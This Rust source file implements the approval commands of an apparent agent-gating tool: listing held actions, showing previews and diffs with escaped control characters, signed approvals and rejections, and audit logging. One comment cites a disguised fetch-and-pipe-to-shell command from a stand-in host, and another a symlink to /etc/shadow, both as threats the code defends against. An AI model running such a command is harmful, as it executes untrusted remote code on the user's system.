//! `pending`, `show`, `approve`, `reject`, `approver`: output formats for the approval store.

use super::error_line;
use crate::approval::{self, ApprovalError, ApprovalStore, ApproverKey, HeldAction};
use crate::audit::{AuditEntry, AuditLog, EntryKind};
use crate::exit;
use crate::launch::{refusal_code, HeldContext};
use std::path::{Path, PathBuf};

fn store(state: &Path) -> Result<ApprovalStore, i32> {
    ApprovalStore::open(state).map_err(|e| {
        error_line(&e.to_string());
        exit::INTERNAL
    })
}

fn key() -> Result<ApproverKey, i32> {
    approval::default_approver_key_path()
        .and_then(|p| ApproverKey::load_or_create(&p))
        .map_err(|e| {
            error_line(&e.to_string());
            exit::INTERNAL
        })
}

/// The command as an approver reads it, every control character visible;
/// an argv quoted word by word, so that `touch 'a b'` and `touch a b`, or
/// `sh -c 'touch x' y` and `sh -c touch x y`, read apart.
fn command_of(a: &HeldAction) -> String {
    visible(
        &a.intent
            .script
            .clone()
            .unwrap_or_else(|| crate::launch::shell_words(a.intent.argv.as_deref().unwrap_or_default())),
    )
}

/// Text that came from the agent (its command, the files it wrote, their
/// contents, its output), made safe to print to an approver's terminal:
/// control characters but line breaks and tabs, and the Unicode controls
/// that reorder or hide text, are shown escaped (`\x1b`, `\u{202e}`). A
/// carriage return or an escape sequence would otherwise let a line show
/// something else than it holds (`curl evil | sh\r\x1b[2Kecho hello`).
pub(crate) fn visible(text: &str) -> String {
    shown(text, false)
}

/// [`visible`] for a name or one line (a path, a symlink's target, a
/// session): its line breaks escaped too, so that it cannot pass for lines
/// of its own.
fn visible_line(text: &str) -> String {
    shown(text, true)
}

fn shown(text: &str, one_line: bool) -> String {
    let hidden = |c: char| {
        (c.is_control() && (one_line || (c != '\n' && c != '\t')))
            || matches!(c, '\u{061c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
    };
    if !text.chars().any(hidden) {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !hidden(c) => out.push(c),
            c if (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    out
}

/// The approvals of `a` a resume would count now, one per approver, and
/// how many others have expired (by the clock, or by the session's
/// proposals since): an expired approval is on record but counts for
/// nothing, so it is never shown as one that does. One whose nonce a run
/// spent counted when it was used.
fn counted_approvals(st: &ApprovalStore, a: &HeldAction) -> (usize, usize) {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64);
    // Read once, and only for an approval the clock has not expired.
    let mut proposals = None;
    let mut approvers = std::collections::BTreeSet::new();
    let mut expired = 0;
    for e in a.approvals.iter().filter(|e| !e.superseded) {
        let lapsed = !e.consumed
            && (e.expires_at_unix_ms.is_some_and(|t| now >= t)
                || e.expires_at_proposal.is_some_and(|last| {
                    *proposals.get_or_insert_with(|| st.session_proposals(&a.session).unwrap_or(0)) > last
                }));
        if lapsed {
            expired += 1;
        } else {
            approvers.insert(e.approver_key_id.as_str());
        }
    }
    (approvers.len(), expired)
}

/// `N of M` (`noun`), and the expired ones if any.
fn approvals_line(st: &ApprovalStore, a: &HeldAction, noun: &str) -> String {
    match counted_approvals(st, a) {
        (valid, 0) => format!("{valid} of {}{noun}", a.required_approvals),
        (valid, expired) => format!("{valid} of {}{noun}; {expired} expired", a.required_approvals),
    }
}

pub fn pending(state: &Path, json: bool) -> i32 {
    let st = match store(state) {
        Ok(s) => s,
        Err(c) => return c,
    };
    match st.pending() {
        Ok(list) => {
            if json {
                println!("{}", serde_json::json!({"v": 1, "pending": list}));
            } else if list.is_empty() {
                println!("no held actions");
            } else {
                for a in &list {
                    println!(
                        "{}  {:<11} {}  approvals {}  `{}`",
                        a.id,
                        a.state.as_str(),
                        visible_line(&a.session),
                        approvals_line(&st, a, ""),
                        command_of(a)
                    );
                }
            }
            0
        }
        Err(e) => {
            error_line(&e.to_string());
            exit::INTERNAL
        }
    }
}

pub fn show(state: &Path, id: &str, json: bool) -> i32 {
    let st = match store(state) {
        Ok(s) => s,
        Err(c) => return c,
    };
    let a = match st.get(id) {
        Ok(a) => a,
        Err(e) => {
            error_line(&e.to_string());
            return refusal_code(&e);
        }
    };
    let ctx: Option<HeldContext> = serde_json::from_str(&a.policy_json).ok();
    if json {
        println!("{}", serde_json::json!({"v": 1, "action": a, "context": ctx}));
        return 0;
    }
    println!("{}  ({})", a.id, a.state.as_str());
    println!("  would run:   {}", command_of(&a));
    if let Some(c) = &ctx {
        // Paths a repository or an agent can name: shown escaped, as the
        // command is, so that no escape sequence in one redraws the lines
        // above it.
        println!("  workspace:   {}", visible_line(&c.workspace.to_string_lossy()));
        let files: Vec<String> = c.files.iter().map(|f| visible_line(&f.to_string_lossy())).collect();
        println!(
            "  policy:      {}",
            if files.is_empty() {
                "<embedded default>".to_string()
            } else {
                files.join(" narrowed by ")
            }
        );
    }
    println!("  cwd:         {}", visible_line(&a.intent.cwd));
    println!("  why held:    {}", visible(&a.summary));
    println!("  approvals:   {}", approvals_line(&st, &a, " distinct approvers"));
    if let Some(r) = &a.rejection_reason {
        println!("  rejected:    {}", visible(r));
    }
    if let Some(c) = &ctx {
        print_preview(c, a.state.as_str());
    }
    println!("  an approval binds:");
    println!(
        "    session {} (proposal {}), action {}, idempotency key {}",
        visible_line(&a.session),
        a.position,
        a.id,
        visible_line(&a.idempotency_key)
    );
    println!(
        "    intent {} (stdin {}, env {})",
        a.intent.digest(),
        a.intent.stdin_digest,
        a.intent.env_digest
    );
    println!("    policy {}", a.bindings.policy_digest);
    println!("    environment {}", a.bindings.env_instance_id);
    println!(
        "    workspace {} at generation {}",
        a.bindings.workspace_fingerprint, a.bindings.workspace_generation
    );
    // What the fingerprint leaves out (the policy's `fingerprint_ignore`):
    // changes there do not void the approval.
    let ignored = ctx
        .as_ref()
        .and_then(|c| crate::launch::held_policy(c).ok())
        .map(|p| p.fingerprint_ignore())
        .unwrap_or_default();
    if !ignored.is_empty() {
        let shown: Vec<String> = ignored.iter().map(|i| visible_line(i)).collect();
        println!("      (not covering, as the policy says: {})", shown.join(", "));
    }
    println!(
        "    expiry: {} s after approval, or {} proposals of the session; a one-time nonce",
        a.ttl_seconds, a.proposal_window
    );
    0
}

/// The audit log an approval or rejection goes on, opened and checked
/// before anything is decided: a log that cannot take the record decides
/// nothing.
fn opened_log(state: &Path, verb: &str) -> Result<AuditLog, i32> {
    AuditLog::open(state)
        .and_then(|mut log| log.ready_to_append().map(|()| log))
        .map_err(|e| {
            error_line(&format!("cannot write to the audit log, so nothing was {verb}: {e}"));
            exit::INTERNAL
        })
}

/// The record of a decision already made (`verb`): if it cannot be written
/// after all (the disk filled up meanwhile), the message says the decision
/// stands.
fn audit(
    log: &mut AuditLog,
    kind: EntryKind,
    (id, verb): (&str, &str),
    key_id: &str,
    detail: Option<String>,
) -> Result<(), i32> {
    let mut rec = AuditEntry::new(kind);
    rec.actor = Some(format!("approver:{key_id}"));
    rec.approval_id = Some(id.to_string());
    rec.approver_key_ids = Some(vec![key_id.to_string()]);
    rec.detail = detail;
    log.append(rec).map(|_| ()).map_err(|e| {
        error_line(&format!(
            "{id} was {verb}, but the audit record of it could not be written: {e}"
        ));
        exit::INTERNAL
    })
}

/// The first approver key used with a state directory is trusted on first use;
/// later keys must be trusted explicitly (`approver trust`).
fn trust_on_first_use(st: &ApprovalStore, key: &ApproverKey) -> Result<(), i32> {
    match st.trusted() {
        Ok(t) if t.is_empty() => st.trust(&key.public_bytes()).map(|_| ()).map_err(|e| {
            error_line(&e.to_string());
            exit::INTERNAL
        }),
        Ok(_) => Ok(()),
        Err(e) => {
            error_line(&e.to_string());
            Err(exit::INTERNAL)
        }
    }
}

/// An action whose approved preview a resume began to land, and did not
/// finish, is finished by the next start (`resume`): neither approved nor
/// rejected over it, which would leave its workspace half landed.
fn refuse_while_landing(st: &ApprovalStore, state: &Path, id: &str, verb: &str) -> Result<(), i32> {
    if crate::workspace::overlay::landing_link_present(state, id) && landing_begun(st, id) {
        error_line(&format!(
            "{id} cannot be {verb} now: a resume began landing its approved preview and did not finish; `tether-exec resume {id}` finishes it"
        ));
        return Err(exit::REFUSED);
    }
    Ok(())
}

/// Whether a resume began landing `id`'s preview and has not finished (its
/// journal is there). Only asked when the landing's link exists.
fn landing_begun(st: &ApprovalStore, id: &str) -> bool {
    let Ok(a) = st.get(id) else {
        return false; // the store's own call says what is wrong
    };
    serde_json::from_str::<HeldContext>(&a.policy_json)
        .ok()
        .and_then(|c| c.preview)
        .is_some_and(|p| crate::workspace::overlay::landing_begun(&p.dir))
}

pub fn approve(state: &Path, id: &str) -> i32 {
    let (st, key, approved) = match approve_recorded(state, id, true) {
        Ok(x) => x,
        Err(code) => return code,
    };
    match approved {
        Ok(a) => {
            println!(
                "approved {id} as {} ({})",
                key.key_id(),
                approvals_line(&st, &a, " approvals")
            );
            if counted_approvals(&st, &a).0 as u32 >= a.required_approvals {
                println!("run it with `tether-exec resume {id}`");
            }
            0
        }
        Err(e) => {
            error_line(&e.to_string());
            refusal_code(&e)
        }
    }
}

/// `approve ID --resume`: the approval recorded exactly as `approve` records
/// it, printing nothing (what follows on stdout is the command's), and the
/// store handed on to the resume. A retry is the same call: an action this
/// key has already approved, or one past approving (it ran, is running, was
/// rejected, or was interrupted), goes straight to the resume, which runs it
/// once, finishes the landing a killed call began, or says what became of
/// it. An interrupted action (its launcher was killed while it ran: it may
/// have had effects) is not approved again here, so that repeating this call
/// never runs an action twice; a deliberate `approve` does that.
pub fn approve_for_resume(state: &Path, id: &str) -> Result<ApprovalStore, i32> {
    if let Some(st) = landing_under_way(state, id)? {
        return Ok(st);
    }
    let (st, _, approved) = approve_recorded(state, id, false)?;
    match approved {
        Ok(_) | Err(ApprovalError::AlreadyApprovedBy { .. } | ApprovalError::WrongState { .. }) => Ok(st),
        Err(e) => {
            error_line(&e.to_string());
            Err(refusal_code(&e))
        }
    }
}

/// What deciding on `id` (`verb`: "approved" or "rejected") needs, each
/// failure already reported: the store, the approver's key (trusted on first
/// use), the audit log ready for the record; refused while a landing of the
/// action's preview is under way.
fn ready_to_decide(state: &Path, id: &str, verb: &str) -> Result<(ApprovalStore, ApproverKey, AuditLog), i32> {
    let (st, key) = match (store(state), key()) {
        (Ok(s), Ok(k)) => (s, k),
        (Err(c), _) | (_, Err(c)) => return Err(c),
    };
    refuse_while_landing(&st, state, id, verb)?;
    let log = opened_log(state, verb)?;
    trust_on_first_use(&st, &key)?;
    Ok((st, key, log))
}

/// With a landing of `id`'s preview begun (a resume was killed while
/// landing it, or is landing it now), the store for the resume, which
/// finishes it or says another is at it; nothing is approved or rejected
/// over it.
fn landing_under_way(state: &Path, id: &str) -> Result<Option<ApprovalStore>, i32> {
    if !crate::workspace::overlay::landing_link_present(state, id) {
        return Ok(None);
    }
    let st = store(state)?;
    Ok(landing_begun(&st, id).then_some(st))
}

/// Sign and store an approval of `id`, audited (of an interrupted action
/// only `again_after_interruption`). The outer error is a setup failure,
/// already reported; the inner result is the store's answer.
fn approve_recorded(
    state: &Path,
    id: &str,
    again_after_interruption: bool,
) -> Result<(ApprovalStore, ApproverKey, Result<HeldAction, ApprovalError>), i32> {
    let (st, key, mut log) = ready_to_decide(state, id, "approved")?;
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64);
    let approved = if again_after_interruption {
        st.approve(id, &key, now)
    } else {
        st.approve_unless_interrupted(id, &key, now)
    };
    if approved.is_ok() {
        audit(&mut log, EntryKind::Approved, (id, "approved"), &key.key_id(), None)?;
    }
    Ok((st, key, approved))
}

pub fn reject(state: &Path, id: &str, reason: &str) -> i32 {
    match reject_recorded(state, id, reason) {
        Ok((_, Ok(()))) => {
            println!("rejected {id}: {reason}");
            0
        }
        Ok((_, Err(e))) => {
            error_line(&e.to_string());
            refusal_code(&e)
        }
        Err(code) => code,
    }
}

/// `reject ID --reason TEXT --resume`: the rejection recorded exactly as
/// `reject` records it, printing nothing, and the store handed on to the
/// resume, which reports the rejection as the agent's observation. A retry
/// is the same call: an action already rejected goes straight to the resume.
pub fn reject_for_resume(state: &Path, id: &str, reason: &str) -> Result<ApprovalStore, i32> {
    if let Some(st) = landing_under_way(state, id)? {
        return Ok(st);
    }
    match reject_recorded(state, id, reason)? {
        (st, Ok(()))
        | (
            st,
            Err(ApprovalError::WrongState {
                state: approval::ActionState::Rejected,
                ..
            }),
        ) => Ok(st),
        (_, Err(e)) => {
            error_line(&e.to_string());
            Err(refusal_code(&e))
        }
    }
}

/// Sign and store a rejection of `id`, audited, its preview thrown away. The
/// outer error is a setup failure, already reported; the inner result is the
/// store's answer.
fn reject_recorded(state: &Path, id: &str, reason: &str) -> Result<(ApprovalStore, Result<(), ApprovalError>), i32> {
    let (st, key, mut log) = ready_to_decide(state, id, "rejected")?;
    let rejected = match st.reject(id, reason, &key) {
        Ok(a) => a,
        Err(e) => return Ok((st, Err(e))),
    };
    // A rejected action's preview is thrown away: nothing of it lands.
    if let Some(p) = serde_json::from_str::<HeldContext>(&rejected.policy_json)
        .ok()
        .and_then(|c| c.preview)
    {
        crate::workspace::overlay::discard_preview(&p.dir);
    }
    audit(
        &mut log,
        EntryKind::Rejected,
        (id, "rejected"),
        &key.key_id(),
        Some(reason.to_string()),
    )?;
    Ok((st, Ok(())))
}

pub fn approver_show(_state: &Path) -> i32 {
    match key() {
        Ok(k) => {
            println!("key id:     {}", k.key_id());
            println!("public key: {}", crate::policy::hex(&k.public_bytes()));
            0
        }
        Err(c) => c,
    }
}

pub fn approver_trust(state: &Path, public_key: &str) -> i32 {
    let bytes: Option<[u8; 32]> = hex::decode(public_key.trim()).ok().and_then(|v| v.try_into().ok());
    let Some(bytes) = bytes else {
        error_line("the public key must be 64 hexadecimal characters (see `tether-exec approver show` on the approver's account)");
        return exit::INTERNAL;
    };
    match store(state).map(|st| st.trust(&bytes)) {
        Ok(Ok(id)) => {
            println!("trusted approver {id}");
            0
        }
        Ok(Err(e)) => {
            error_line(&e.to_string());
            exit::INTERNAL
        }
        Err(c) => c,
    }
}

/// Lines of diff shown per file, and in all.
const DIFF_LINES_PER_FILE: usize = 60;
const DIFF_LINES_TOTAL: usize = 400;
/// Lines of recorded output shown.
const OUTPUT_LINES: usize = 20;

fn is_binary(p: &Path) -> bool {
    use std::io::Read;
    let mut buf = [0u8; 8192];
    // The preview's files are the run's: a FIFO among them must not hang `show`.
    let Ok(n) = crate::workspace::open_planted(p).and_then(|mut f| f.read(&mut buf)) else {
        return true; // not a regular file: nothing to show as text
    };
    // NUL bytes, or bytes that are not UTF-8 (a sequence cut at the end of the
    // sample does not count).
    buf[..n].contains(&0) || std::str::from_utf8(&buf[..n]).is_err_and(|e| e.error_len().is_some())
}

fn size_of(p: &Path) -> String {
    match std::fs::symlink_metadata(p) {
        Ok(m) if m.file_type().is_symlink() => format!(
            "symlink to {}",
            std::fs::read_link(p)
                .map(|t| t.display().to_string())
                .unwrap_or_default()
        ),
        Ok(m) if m.is_dir() => "directory".into(),
        Ok(m) => format!("{} bytes{}", m.len(), if is_binary(p) { ", binary" } else { "" }),
        Err(_) => "gone".into(),
    }
}

/// What a held action would change, as captured by its preview.
fn print_preview(c: &HeldContext, state: &str) {
    let Some(p) = &c.preview else {
        println!(
            "  preview:     none: {}",
            c.no_preview.as_deref().unwrap_or("not recorded")
        );
        return;
    };
    if !p.dir.exists() {
        println!("  preview:     discarded ({state})");
        return;
    }
    let upper = p.dir.join("upper");
    println!(
        "  preview:     it ran once, confined, in an overlay; nothing landed. Exit {}. Digest {}",
        p.exit_code, p.digest
    );
    for (what, list, from_upper) in [
        ("added", &p.added, true),
        ("modified", &p.modified, true),
        ("deleted", &p.deleted, false),
    ] {
        for path in list {
            let at = if from_upper {
                upper.join(path)
            } else {
                c.workspace.join(path)
            };
            println!("    {what:<9}{} ({})", visible_line(path), visible_line(&size_of(&at)));
        }
    }
    for v in &p.violations {
        println!("    refused  {}", visible(v));
    }
    let mut budget = DIFF_LINES_TOTAL;
    // Said, never silently dropped: what an approver does not see must be
    // named, or a change could hide behind a long diff before it.
    let (mut over_budget, mut binary) = (Vec::new(), Vec::new());
    for path in p.modified.iter().chain(&p.added) {
        // Regular files only, never through a symlink: the run may have
        // made one to a file of the host's (`-> /etc/shadow`), which `diff`
        // would print.
        let regular = |p: &Path| std::fs::symlink_metadata(p).is_ok_and(|m| m.is_file());
        let new = upper.join(path);
        if !regular(&new) {
            continue;
        }
        if is_binary(&new) {
            binary.push(visible_line(path));
            continue;
        }
        if budget == 0 {
            over_budget.push(visible_line(path));
            continue;
        }
        let old = c.workspace.join(path);
        let old = if regular(&old) && !is_binary(&old) {
            old
        } else {
            PathBuf::from("/dev/null")
        };
        let Ok(o) = std::process::Command::new("diff")
            .args(["-u", "--label", &format!("a/{path}"), "--label", &format!("b/{path}")])
            .arg(&old)
            .arg(&new)
            .output()
        else {
            println!("    (no `diff` program to show the changes of {path})");
            continue;
        };
        let text = String::from_utf8_lossy(&o.stdout);
        let lines: Vec<&str> = text.lines().collect();
        let shown = lines.len().min(DIFF_LINES_PER_FILE).min(budget);
        for l in &lines[..shown] {
            println!("    | {}", visible(l));
        }
        if shown < lines.len() {
            println!("    | ... {} more lines of diff not shown (cap: {DIFF_LINES_PER_FILE} per file, {DIFF_LINES_TOTAL} in all)", lines.len() - shown);
        }
        budget -= shown;
    }
    if !binary.is_empty() {
        println!("    (binary, contents not shown: {})", binary.join(", "));
    }
    if !over_budget.is_empty() {
        println!(
            "    (diffs not shown, past the cap of {DIFF_LINES_TOTAL} lines in all: {}; read them in {})",
            over_budget.join(", "),
            visible_line(&upper.to_string_lossy())
        );
    }
    for name in ["stdout", "stderr"] {
        let data = std::fs::read(p.dir.join(name)).unwrap_or_default();
        if data.is_empty() {
            continue;
        }
        let text = String::from_utf8_lossy(&data);
        let lines: Vec<&str> = text.lines().collect();
        println!(
            "  its {name} (first {} of {} lines):",
            lines.len().min(OUTPUT_LINES),
            lines.len()
        );
        for l in lines.iter().take(OUTPUT_LINES) {
            println!("    > {}", visible(l));
        }
    }
}
